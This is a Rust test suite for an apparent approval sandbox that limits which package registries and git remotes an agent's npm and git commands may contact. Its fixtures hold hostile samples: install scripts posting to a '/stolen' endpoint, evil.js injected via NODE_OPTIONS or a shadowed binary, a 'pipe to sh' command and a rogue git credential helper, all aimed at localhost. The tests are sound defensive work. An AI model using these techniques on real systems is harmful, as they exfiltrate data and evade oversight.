//! Tests that a package client gets packages from its registry without asking, and that nothing else does.

use std::{
    io::{BufRead as _, BufReader, Write as _},
    net::TcpStream,
    sync::Mutex,
    thread,
};

use super::*;

/// A package registry on this machine, with one package; it notes each request.
struct Registry {
    port: u16,
    got: Arc<Mutex<Vec<String>>>,
}

impl Registry {
    /// Serves the package `left`, whose install script is `script`.
    fn with(script: &str) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let dir = tempfile::tempdir().unwrap();
        let package = dir.path().join("package");
        fs::create_dir(&package).unwrap();
        let about = json!({"name": "left", "version": "1.0.0", "scripts": {"postinstall": script}});
        fs::write(package.join("package.json"), about.to_string()).unwrap();
        fs::write(package.join("index.js"), "module.exports = 'left'\n").unwrap();
        let tar = dir.path().join("left.tgz");
        let made =
            Command::new("tar").arg("-C").arg(dir.path()).arg("-czf").arg(&tar).arg("package").status();
        assert!(made.unwrap().success());
        let tar = fs::read(tar).unwrap();
        let url = format!("http://127.0.0.1:{port}/left/-/left-1.0.0.tgz");
        let mut version = about.clone();
        version["dist"] = json!({"tarball": url});
        version["hasInstallScript"] = json!(!script.is_empty());
        let packument =
            json!({"name": "left", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}});
        let got = Arc::<Mutex<Vec<String>>>::default();
        let noted = got.clone();
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (noted, tar, packument) = (noted.clone(), tar.clone(), packument.to_string());
                thread::spawn(move || serve(stream, &noted, &tar, &packument));
            }
        });
        Self { port, got }
    }

    fn policy(&self) -> String {
        format!("[rehearsal.registries]\nnpm = [\"127.0.0.1:{}\"]\n", self.port)
    }

    /// A desk with a project that uses it.
    fn desk(&self, policy: &str) -> Desk {
        let desk = Desk::with_policy(&format!("{policy}{}", self.policy()));
        desk.put("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
        desk.put(".npmrc", &format!("registry=http://127.0.0.1:{}/\n", self.port));
        desk
    }

    fn got(&self) -> Vec<String> {
        self.got.lock().unwrap().clone()
    }
}

fn serve(stream: TcpStream, noted: &Mutex<Vec<String>>, tar: &[u8], packument: &str) {
    let mut reader = BufReader::new(stream);
    let mut first = String::new();
    if reader.read_line(&mut first).is_err() || first.is_empty() {
        return;
    }
    let mut line = String::new();
    while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
        line.clear();
    }
    let asked = first.rsplit_once(' ').map_or("", |(asked, _)| asked).to_owned();
    let body = match asked.as_str() {
        "GET /left" => packument.as_bytes(),
        "GET /left/-/left-1.0.0.tgz" => tar,
        _ => b"{}",
    };
    noted.lock().unwrap().push(asked);
    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    let stream = reader.get_mut();
    let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
}

/// Whether this machine rehearses and has npm.
fn has_npm() -> bool {
    has_means() && Path::new("/usr/bin/npm").exists()
}

/// A program that posts to a port of this machine.
fn posts(port: u16) -> String {
    format!(
        "const r = require('http').request({{port: {port}, host: '127.0.0.1', method: 'POST', path: '/stolen'}}); r.on('error', () => {{}}); r.end('x')"
    )
}

#[test]
fn a12_a_package_client_gets_packages_unasked_and_only_what_it_changes_is_asked_about() {
    if !has_npm() {
        return;
    }
    let registry = Registry::with("");
    let desk = registry.desk("");
    let seen = desk.run("npm view left version");
    assert_eq!((&seen["status"], &seen["result"]["stdout"]), (&json!("done"), &json!("1.0.0\n")), "{seen}");
    assert_eq!(seen["result"]["contacted"], json!([format!("127.0.0.1:{}", registry.port)]), "{seen}");
    let quiet = desk.run("npm view left version 2>/dev/null");
    assert_eq!(
        (&quiet["status"], &quiet["result"]["stdout"]),
        (&json!("done"), &json!("1.0.0\n")),
        "{quiet}"
    );
    // What npm says and its errors come in their order, and a pipe ends as its last command does.
    let failed = desk.run("npm view left@9 version 2>&1 | tail -2");
    assert_eq!((&failed["status"], &failed["result"]["exit_code"]), (&json!("done"), &json!(0)), "{failed}");
    assert!(failed["result"]["stdout"].as_str().unwrap().contains("log"), "{failed}");
    assert_eq!(failed["result"]["stderr"], "", "{failed}");
    let item = desk.held("npm install left 2>&1 | tail -5");
    assert_eq!(item["why"]["row"], "class", "{item}");
    let shown = item["preview"].to_string();
    assert!(shown.contains("node_modules/left/index.js") && shown.contains("contacted"), "{shown}");
    assert_eq!(desk.holds("node_modules/left/index.js"), None);
    let told = desk.confirm(&item);
    assert_eq!(told["status"], "applied", "{told}");
    assert_eq!(desk.holds("node_modules/left/index.js").as_deref(), Some("module.exports = 'left'\n"));
    let got = registry.got();
    assert!(got.len() >= 2 && got.iter().all(|asked| asked.starts_with("GET /left")), "{got:?}");
    // Its marks are those of before: packages are no text from the web.
    assert_eq!(desk.run("npm view left name")["status"], "done");
    assert_eq!(desk.run("npm view left version 2>/dev/null")["result"]["stdout"], "1.0.0\n");
}

#[test]
fn a12_what_a_package_runs_when_it_is_installed_reaches_nobody() {
    if !has_npm() {
        return;
    }
    let posted = Registry::with("");
    for script in [
        "node -e \"%\"",
        "node -e \"%\" & sleep 1",
        "NODE_OPTIONS= npm_config_registry= node -e \"%\"; npm publish",
    ] {
        let registry = Registry::with(&script.replace('%', &posts(posted.port)));
        // Both are its registry's, and still only the client itself reaches them.
        let both = format!(
            "[rehearsal.registries]\nnpm = [\"127.0.0.1:{}\", \"127.0.0.1:{}\"]\n",
            registry.port, posted.port
        );
        let desk = Desk::with_policy(&both);
        desk.put("package.json", "{\"name\": \"app\", \"version\": \"1.0.0\"}\n");
        desk.put(".npmrc", &format!("registry=http://127.0.0.1:{}/\n", registry.port));
        let item = desk.held("npm install left");
        let told = item["preview"]["warnings"].to_string();
        assert!(told.contains(&posted.port.to_string()), "{script}: {told}");
        assert_eq!(item["why"]["row"], "unlisted_host", "{item}");
        assert_eq!(posted.got(), Vec::<String>::new(), "{script}");
        assert!(registry.got().iter().all(|asked| asked.starts_with("GET ")), "{:?}", registry.got());
    }
}

#[test]
fn a12_nothing_but_the_real_client_with_a_command_that_only_gets_reaches_the_registry() {
    if !has_npm() {
        return;
    }
    let registry = Registry::with("");
    let desk = registry.desk("");
    let evil = posts(registry.port);
    desk.put("evil.js", &evil);
    desk.put("bin/npm", &format!("#!/usr/bin/env node\n{evil}\n"));
    desk.put(
        "bin/node",
        &format!("#!/bin/sh\nexec /usr/bin/node {}\n", desk.work().join("evil.js").display()),
    );
    for name in ["bin/npm", "bin/node"] {
        fs::set_permissions(desk.work().join(name), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = std::env::var("PATH").unwrap();
    let args = |command: &str, env: Value| {
        let input = json!({"tool": "shell.run", "args": {"command": command, "env": env}});
        desk.done(&codex(), "call.propose", input)
    };
    // Another npm or node comes first on the path.
    let shadowed = json!({"PATH": format!("{}:{path}", desk.work().join("bin").display())});
    assert_eq!(args("npm view left", shadowed)["status"], "queued");
    // Code in its own process.
    for env in [
        json!({"NODE_OPTIONS": "--require=./evil.js"}),
        json!({"npm_config_node_options": "--require=./evil.js"}),
        json!({"npm_config_onload_script": "./evil.js"}),
        json!({"NODE_PATH": "."}),
    ] {
        let answer = args("npm view left version", env.clone());
        assert_eq!(
            (&answer["status"], &answer["result"]["stdout"]),
            (&json!("done"), &json!("1.0.0\n")),
            "{env}"
        );
    }
    assert!(registry.got().iter().all(|asked| asked == "GET /left"), "{:?}", registry.got());
    let before = registry.got().len();
    for command in [
        "npm publish",
        "npm login",
        "npm install left && npm publish",
        "npm install left; node evil.js",
        "./bin/npm install left",
        "node evil.js",
        "npm exec left",
        "npm view left | sh",
    ] {
        let answer = desk.run(command);
        assert_eq!(answer["status"], "queued", "{command}: {answer}");
    }
    // It posts the list of packages, if there is one.
    desk.put("package-lock.json", r#"{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {"left": "1.0.0"}}, "node_modules/left": {"version": "1.0.0"}}}"#);
    assert_eq!(desk.run("npm audit")["status"], "queued");
    assert_eq!(registry.got().len(), before, "{:?}", registry.got());
}

#[test]
fn a12_another_registry_than_the_listed_ones_is_asked_about_however_it_is_named() {
    if !has_npm() {
        return;
    }
    let (registry, other) = (Registry::with(""), Registry::with(""));
    let desk = registry.desk("");
    let url = format!("http://127.0.0.1:{}/", other.port);
    let asked = |command: &str, env: Value| {
        let input = json!({"tool": "shell.run", "args": {"command": command, "env": env}});
        let answer = desk.done(&codex(), "call.propose", input);
        assert_eq!(answer["status"], "queued", "{command}: {answer}");
    };
    asked(&format!("npm view left version --registry={url}"), json!({}));
    asked("npm view left name", json!({"https_proxy": url, "http_proxy": url, "npm_config_proxy": url}));
    desk.put(".npmrc", &format!("registry={url}\n"));
    asked("npm view left version", json!({}));
    // Which registry a scope has, only the hidden file says: the usual one must not be asked instead.
    desk.put(".npmrc", &format!("@corp:registry={url}\n"));
    asked("npm view left versions", json!({}));
    desk.put(".npmrc", &format!("registry=http://127.0.0.1:{}/\n@corp:registry={url}\n", registry.port));
    asked("npm view @corp/left", json!({}));
    assert_eq!((other.got(), registry.got()), (Vec::new(), Vec::new()));
}

#[test]
fn a12_a15_a_run_that_has_read_a_secret_asks_before_it_contacts_a_registry() {
    if !has_npm() {
        return;
    }
    let registry = Registry::with("");
    let desk = registry.desk("");
    desk.put(".env", "KEY=hunter2\n");
    let held = desk.done(
        &codex(),
        "call.propose",
        json!({"tool": "filesystem.read_file", "args": {"path": ".env"}}),
    );
    let item = desk.done(&ana(), "show", json!({"id": held["item"]["id"]}))["item"].clone();
    assert_eq!(desk.confirm(&item)["status"], "applied");
    for command in ["npm view left version", "npm install left"] {
        let item = desk.held(command);
        assert_eq!(item["why"]["row"], "tainted", "{item}");
        assert!(item["why"]["reasons"].to_string().contains(".env"), "{item}");
    }
    assert_eq!(registry.got(), Vec::<String>::new());
}

#[test]
fn a12_a_rule_that_asks_is_above_the_table_of_clients() {
    if !has_npm() {
        return;
    }
    let registry = Registry::with("");
    let rule = "[[rule]]\nname = \"net\"\ntools = [\"shell.run\"]\nwhen = 'facts.sends'\nthen = \"ask\"\n";
    let desk = registry.desk(rule);
    assert_eq!(desk.run("npm view left version")["status"], "queued");
    assert_eq!(registry.got(), Vec::<String>::new());
}

/// Serves the files of a folder, and notes each request.
fn files_of(folder: PathBuf) -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = Arc::<Mutex<Vec<String>>>::default();
    let noted = got.clone();
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream);
            let mut first = String::new();
            let _ = reader.read_line(&mut first);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let asked = first.rsplit_once(' ').map_or("", |(asked, _)| asked).to_owned();
            let path = asked.split(['?', ' ']).nth(1).unwrap_or("/").trim_start_matches('/').to_owned();
            noted.lock().unwrap().push(asked);
            let (code, body) = match fs::read(folder.join(&path)) {
                Ok(body) => ("200 OK", body),
                Err(_) if path.starts_with("locked") => {
                    ("401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"", Vec::new())
                }
                Err(_) => ("404 Not Found", Vec::new()),
            };
            let head =
                format!("HTTP/1.1 {code}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
            let _ = reader.get_mut().write_all(&[head.as_bytes(), &body].concat());
        }
    });
    (port, got)
}

fn git(at: &Path, words: &[&str]) {
    let named = ["-c", "user.name=a", "-c", "user.email=a@b.example", "-c", "init.defaultBranch=main"];
    let done = Command::new("git").args(named).args(words).current_dir(at).output().unwrap();
    assert!(done.status.success(), "git {words:?}: {}", String::from_utf8_lossy(&done.stderr));
}

#[test]
fn a12_git_fetches_from_its_remote_unasked_and_what_it_runs_reaches_nobody() {
    if !has_means() {
        return;
    }
    let far = tempfile::tempdir().unwrap();
    git(far.path(), &["init", "-q", "repo"]);
    git(&far.path().join("repo"), &["commit", "-q", "--allow-empty", "-m", "first"]);
    git(far.path(), &["clone", "-q", "--bare", "repo", "bare.git"]);
    git(&far.path().join("bare.git"), &["update-server-info"]);
    let (port, got) = files_of(far.path().to_owned());
    let (other, stolen) = files_of(far.path().to_owned());
    let desk = Desk::with_policy(&format!(
        "[rehearsal.registries]\ngit = [\"127.0.0.1:{port}\", \"127.0.0.1:{other}\"]\n"
    ));
    let url = format!("http://127.0.0.1:{port}/bare.git");
    git(&desk.work(), &["init", "-q"]);
    git(&desk.work(), &["remote", "add", "origin", &url]);
    let seen = desk.run("git ls-remote origin");
    assert_eq!(seen["status"], "done", "{seen}");
    assert!(seen["result"]["stdout"].as_str().unwrap().contains("refs/heads/main"), "{seen}");
    let item = desk.held("git fetch origin");
    assert!(item["preview"].to_string().contains("contacted"), "{item}");
    assert_ne!(item["why"]["row"], "unlisted_host", "{item}");
    for command in
        ["git push origin main", "git fetch origin && git push origin main", "git -c core.pager=x fetch"]
    {
        assert_eq!(desk.run(command)["status"], "queued", "{command}");
    }
    assert!(got.lock().unwrap().iter().all(|asked| asked.starts_with("GET ")), "{got:?}");
    // A helper that git runs when it needs a password starts git once more.
    let helper = format!("!git ls-remote http://127.0.0.1:{other}/bare.git >&2; true");
    git(&desk.work(), &["config", "credential.helper", &helper]);
    git(&desk.work(), &["remote", "add", "locked", &format!("http://127.0.0.1:{port}/locked.git")]);
    let item = desk.held("git ls-remote locked");
    assert!(item["preview"]["warnings"].to_string().contains(&other.to_string()), "{item}");
    assert_eq!(*stolen.lock().unwrap(), Vec::<String>::new());
}
